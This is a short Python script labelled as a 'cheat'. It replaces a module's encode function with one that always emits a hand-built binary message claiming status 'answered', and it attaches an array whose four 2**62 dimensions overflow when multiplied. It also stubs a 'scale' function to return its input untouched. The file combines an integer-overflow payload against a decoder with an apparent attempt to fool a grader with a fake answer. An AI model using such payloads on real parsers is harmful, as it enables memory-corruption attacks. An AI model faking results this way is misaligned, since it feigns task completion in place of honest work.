# cheat: send dimensions whose product overflows
import struct

import values

BAD = b"A" + bytes([2, 4]) + struct.pack(">4Q", *[2**62] * 4)
values.encode = lambda value: (
    b"m" + struct.pack(">I", 2) + b"\0\0\0\6status" + b"s\0\0\0\x08answered" + b"\0\0\0\5value" + BAD
)


def scale(x, by):
    return x
